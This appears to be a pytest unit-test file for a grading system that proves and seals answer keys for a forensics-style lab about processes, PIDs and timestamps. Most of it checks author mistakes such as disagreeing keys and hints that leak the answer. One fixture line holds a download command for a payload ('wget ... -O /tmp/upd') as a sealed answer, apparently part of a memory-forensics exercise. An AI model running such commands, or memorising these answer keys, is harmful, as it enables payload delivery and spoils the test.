from __future__ import annotations

import copy
import json
import re
from typing import Any

import pytest
from pydantic import TypeAdapter, ValidationError

from tests.unit.grading.miniature import ROWS, TRUTH, questions, sealed
from training.grading.keys.syntax import Query
from training.grading.parts import Key
from training.grading.proving import Proved, Sealed, prove, seal
from training.grading.question import Question, Questions, queries

P = Query("p")


def lab(*changes: dict[str, Any]) -> tuple[Question, ...]:
    base = {
        "id": "q1",
        "type": "pid",
        "text": "Which?",
        "points": [2, 1],
        "key": {"truth": "truth.pid", "rows": 'the(rows("p")[COMM = "x"].PID)'},
    }
    return TypeAdapter(Questions).validate_python([{**base, **change} for change in changes])


def one(rows: list[dict[str, Any]] | None = None, **changes: Any) -> Proved:
    given = [{"PID": 145, "COMM": "x", "ARGS": "y"}, {"PID": 7, "COMM": "z", "ARGS": "y"}] if rows is None else rows
    return prove(
        lab(changes), {"pid": 145, "chain": [1, 145], "many": [145, 7], "at": "2026-03-10T12:00:00Z"}, {P: given}
    )[0]


def test_the_miniature_lab_is_proved_without_a_remark() -> None:
    for proved in prove(questions(), TRUTH, ROWS):
        assert proved.sound, proved
        assert not proved.remarks, proved
        assert all(values for _, values in proved.mistakes), proved
        assert len(proved.mistakes) >= 2, proved


def test_only_the_needed_runs_are_needed() -> None:
    needed = {query: ROWS[query] for query in queries(questions())}
    assert len(needed) < len(ROWS)
    assert seal(questions(), TRUTH, needed) == sealed()


def test_a_seal_survives_json() -> None:
    again = Sealed.model_validate_json(sealed().model_dump_json())
    assert again == sealed()
    assert again.keys["q3"].answer == (1, 120, 145)
    assert again.keys["q3"].names["memfd:upd"] == 145
    assert again.keys["q3"].shared == ("bash",)
    assert "bash" not in again.keys["q3"].names, "it stands for no process, and an author can't type it"
    assert again.keys["q8"].given == {"loaded": "2026-03-10T11:58:01Z", "shell": 99}
    assert again.keys["q10"].given == {
        "q1": 145,
        "q5": "wget http://files.example/a/upd -O /tmp/upd",
        "q6": "2026-03-10T12:10:44Z",
    }
    assert not again.unproved
    assert json.loads(again.model_dump_json())["keys"]["q1"]["answer"] == 145


def test_a_stale_seal_is_noticed_with_all_that_rests_on_it() -> None:
    assert sealed().stale(questions()) == ()
    first = questions()[0]
    other = Question.model_validate({**first.model_dump(mode="json"), "accept": [{"value": "9"}]})
    assert sealed().stale((other, *questions()[1:])) == ("q1", "q2", "q3", "q10", "q11")
    worded = Question.model_validate({**first.model_dump(mode="json"), "text": "Otherwise?"})
    assert sealed().stale((worded, *questions()[1:])) == ()


def test_a_key_whose_forms_disagree_is_not_sealed() -> None:
    truth = copy.deepcopy(TRUTH)
    truth["actor"]["memfd"]["pid"] = 146
    found = {proved.id: proved for proved in prove(questions(), truth, ROWS)}
    assert (found["q1"].truth, found["q1"].rows, found["q1"].agree) == (146, 145, False)
    assert found["q1"].problems == ("key: the two forms disagree: truth has 146, the rows have 145",)
    assert found["q2"].problems == ("rests on q1, which is not proved",)
    half = seal(questions(), truth, ROWS)
    assert set(half.unproved) == {"q1", "q2", "q3", "q10", "q11"}
    assert set(half.keys) == {"q4", "q5", "q6", "q7", "q8", "q9"}
    assert half.truth != sealed().truth


A = {"code": "M-A", "say": "No."}
PIDS = {"type": "set", "element": "pid", "key": {"truth": "truth.many", "rows": 'rows("p").PID'}}
LINE = {"truth": "truth.chain", "rows": 'minus(list(1, 145), rows("p")[PID = 7].PID)'}


@pytest.mark.parametrize(
    ("changes", "problem"),
    [
        ({"key": {"truth": "truth.pid", "rows": 'rows("p").PID'}}, "key.rows: a pid is a whole number"),
        ({"key": {"truth": "truth.nothing", "rows": 'rows("p").PID'}}, "key.truth: no column is named 'nothing'"),
        ({"key": {"truth": "truth.pid", "rows": 'the(rows("q").PID)'}}, "key.rows: the rows of q are not here"),
        ({**PIDS, "key": {"truth": "list()", "rows": 'rows("p")[PID = 0].PID'}}, "key.truth: the answer is empty"),
        ({"mistakes": [{**A, "when": 'rows("p").PID'}]}, "M-A: one of its values is the right answer"),
        ({"mistakes": [{**A, "value": "0x91"}]}, "M-A: one of its values is the right answer"),
        (
            {"mistakes": [{**A, "value": "7"}], "accept": [{"value": "7"}]},
            "M-A: one of its values is the right answer, or an accepted form of it",
        ),
        ({"mistakes": [{**A, "when": 'the(rows("p").PID)'}]}, "M-A: exactly one element is expected, there are 2"),
        ({"mistakes": [{**A, "when": "truth.at"}]}, "M-A: a pid is a whole number"),
        ({"accept": [{"when": "list(truth.x)"}]}, "accept 1: no column is named 'x'"),
        ({"mistakes": [{**A, "value": "7", "say": "It is 145."}]}, "M-A: the text holds the answer"),
        ({"mistakes": [{**A, "value": "7", "next": "Look at 145."}]}, "M-A: the text holds the answer"),
        ({"hints": [{"price": 0.1, "text": "Look at PID 145."}]}, "hints 1: the text holds the answer"),
        ({"text": "Is it 145?"}, "text: the text holds the answer"),
        ({"facts": {"a": "truth.zzz"}}, "facts a: no column is named 'zzz'"),
        ({"proof": [{"plugin": "p", "shows": ["PDI"]}]}, "proof 1: p has no column 'PDI'; nearest: PID"),
        ({"proof": [{"plugin": "p", "where": "PDI = value"}]}, "proof 1 where: no column is named 'PDI'; nearest: PID"),
        ({"proof": [{"plugin": "p", "shows": ["PID"], "where": 'COMM = "z"'}]}, "proof: none of the sources"),
        (
            {**PIDS, "mistakes": [{**A, "includes": "truth.pid"}]},
            "M-A: 145 belongs to the right answer",
        ),
        (
            {**PIDS, "mistakes": [{**A, "includes": "truth.zzz"}]},
            "M-A: no column is named 'zzz'",
        ),
        (
            {"type": "chain", "key": {**LINE, "names": "truth.chain"}},
            "key.names: pairs of a process name and a PID are expected",
        ),
        (
            {"type": "chain", "key": {**LINE, "names": "truth.zzz"}},
            "key.names: no column is named 'zzz'",
        ),
    ],
)  # fmt: skip
def test_problems_of_an_author(changes: dict[str, Any], problem: str) -> None:
    proved = one(**changes)
    assert not proved.sound
    assert any(problem in found for found in proved.problems), proved.problems


def test_a_mistake_inside_a_band_is_worth_no_less_than_the_band() -> None:
    banded: dict[str, Any] = {"type": "number", "tolerance": 1, "band": [{"tolerance": 5, "credit": 0.7}]}

    def problems(when: str, credit: float) -> tuple[str, ...]:
        return one(**banded, mistakes=[{**A, "when": when, "credit": credit}]).problems

    assert problems("key + 3", 0.5) == ("M-A: one of its values lies in a band that is worth more",)
    assert problems("key + 3", 0.7) == problems("key + 9", 0.1) == ()


def test_no_key_with_a_problem_is_sealed() -> None:
    found = seal(
        lab({"hints": [{"price": 0.1, "text": "Look at 145."}]}), {"pid": 145}, {P: [{"PID": 145, "COMM": "x"}]}
    )
    assert (found.keys, list(found.unproved)) == ({}, ["q1"])


def test_too_many_values() -> None:
    rows = [{"PID": 145, "COMM": "x"}, *({"PID": 1000 + index, "COMM": "z"} for index in range(2_001))]
    wrong = {**A, "when": 'rows("p")[COMM = "z"].PID'}
    assert one(rows, mistakes=[wrong]).problems == ("M-A: 2,001 values; at most 2,000",)
    assert one(rows, facts={"a": 'rows("p").PID'}).problems == ("facts a: 2,002 values; at most 2,000",)


def test_a_chain_that_an_author_types_by_name_is_sealed_as_processes() -> None:
    named = {
        "type": "chain",
        "key": {**LINE, "names": 'pairs(rows("p").COMM, rows("p").PID)'},
        "accept": [{"value": "1 > z"}, {"value": "nobody > 7"}],
        "mistakes": [{**A, "value": "x > z"}],
    }
    key = seal(lab(named), {"chain": [1, 145]}, {P: [{"PID": 145, "COMM": "x"}, {"PID": 7, "COMM": "z"}]}).keys["q1"]
    assert key.accept == (((1, 7),), ())
    assert key.mistakes == (((145, 7),),)


def test_all_values_together_have_a_limit_too() -> None:
    rows = [{"PID": 145, "COMM": "x"}, *({"PID": 1000 + index, "COMM": "z"} for index in range(1_700))]
    wrong = {**A, "when": 'rows("p")[COMM = "z"].PID'}
    alike = {**A, "values": 'rows("p")[COMM = "z"].PID'}
    assert one(rows, mistakes=[wrong, wrong]).sound
    problem = ("5,101 wrong and accepted values together; at most 5,000",)
    assert one(rows, mistakes=[wrong, wrong], lookalikes=[alike], accept=[{"value": "9"}]).problems == problem


def test_remarks_do_not_stop_a_seal() -> None:
    proved = one(
        mistakes=[{**A, "when": 'rows("p")[COMM = "none"].PID'}],
        proof=[
            {"plugin": "p", "shows": ["PID"], "where": 'COMM = "z"'},
            {"plugin": "p", "shows": ["PID"]},
            {"plugin": "q", "shows": ["A"]},
        ],
    )
    assert proved.sound
    assert proved.remarks == (
        "M-A matches no finding on this exhibit",
        "proof 1: no row of p shows the answer on this exhibit",
    )


def test_a_time_agrees_within_its_tolerance_and_the_rows_win() -> None:
    question = {
        "type": "timestamp",
        "tolerance": 1,
        "key": {"truth": "truth.at", "rows": 'the(rows("p").AT)'},
        "accept": [{"when": "list(key + 60)"}],
        "facts": {"later": "key + 5", "row": 'the(rows("p"))'},
        "proof": [{"plugin": "p", "where": "AT < later and row.AT = AT"}],
    }
    proved = one([{"AT": "2026-03-10T12:00:01+00:00"}], **question)
    assert proved.sound
    assert (proved.truth, proved.rows) == ("2026-03-10T12:00:00Z", "2026-03-10T12:00:01Z")
    key = seal(lab(question), {"at": "2026-03-10T12:00:01Z"}, {P: [{"AT": "2026-03-10T12:00:01+00:00"}]}).keys["q1"]
    assert key.given == {"later": "2026-03-10T12:00:06Z", "row": {"AT": "2026-03-10T12:00:01Z"}}
    assert key.accept == (("2026-03-10T12:01:01Z",),)
    assert not one([{"AT": "2026-03-10T12:00:02+00:00"}], **question).agree


def test_a_run_without_rows_shows_nothing() -> None:
    proved = prove(
        lab(
            {"key": {"truth": "truth.pid", "rows": 'count(rows("p"))'}, "proof": [{"plugin": "p", "where": "PID = 1"}]}
        ),
        {"pid": 0},
        {P: []},
    )[0]
    assert proved.problems == ("proof: none of the sources shows the answer on this exhibit",)


def test_free_text_needs_no_key_and_gets_none() -> None:
    written: dict[str, Any] = {
        "type": "written",
        "key": None,
        "rubric": [{"id": "a", "text": "Clear?", "levels": ["no", "yes"]}],
        "facts": {"x": "truth.nothing"},
    }
    proved = one(**written)
    assert proved.sound
    assert (proved.truth, proved.rows, proved.problems) == (None, None, ())
    questions_ = lab(written, {"id": "q2", "facts": {"x": "q1"}})
    sealed_ = seal(questions_, {"pid": 145}, {P: [{"PID": 145, "COMM": "x"}]})
    assert sealed_.keys == {}
    assert sealed_.unproved == {"q2": ("rests on q1, which is not proved",)}
    assert sealed_.stale(questions_) == ()


@pytest.mark.parametrize(
    ("changes", "answer"),
    [
        ({"type": "pattern", "key": {"pattern": "fin-[0-9]+"}, "ignore_case": True}, "fin-[0-9]+"),
        ({"type": "choice", "options": {"a": "One", "b": "Two"}, "key": {"constant": "b"}}, "b"),
        ({"type": "choices", "options": {"a": "1", "b": "2", "c": "3"}, "key": {"constant": "c, a"}}, ("a", "c")),
        ({"type": "statement", "reasons": {"r": "A", "s": "B"}, "key": {"constant": "false: r"}}, ("false", "r")),
        ({"type": "text", "key": {"constant": "Scheduled  Task"}}, "scheduled task"),
    ],
)  # fmt: skip
def test_a_key_that_is_the_same_everywhere_is_sealed_in_its_canonical_form(
    changes: dict[str, Any], answer: object
) -> None:
    assert one(**changes).sound
    assert seal(lab(changes), {}, {}).keys["q1"].answer == answer


@pytest.mark.parametrize(
    ("key", "why"),
    [
        ({"constant": "a", "truth": "truth.x"}, "has no other form"),
        ({"pattern": "a+", "constant": "a"}, "has no other form"),
        ({"pattern": "a+", "rows": 'rows("p")'}, "has no other form"),
        ({"pattern": "("}, "the pattern can't be used: missing"),
        ({"pattern": "(?=a)b"}, "the pattern can't be used: invalid perl operator"),
        ({"pattern": ".*"}, "every text fits the pattern"),
        ({"pattern": "a" * 501}, "at most 500 characters"),
        ({"pattern": "((a{100}){10}){10}"}, "the pattern"),
        ({}, "a key needs both forms"),
    ],
)
def test_what_is_no_key(key: dict[str, Any], why: str) -> None:
    with pytest.raises(ValidationError, match=re.escape(why)):
        Key.model_validate(key)
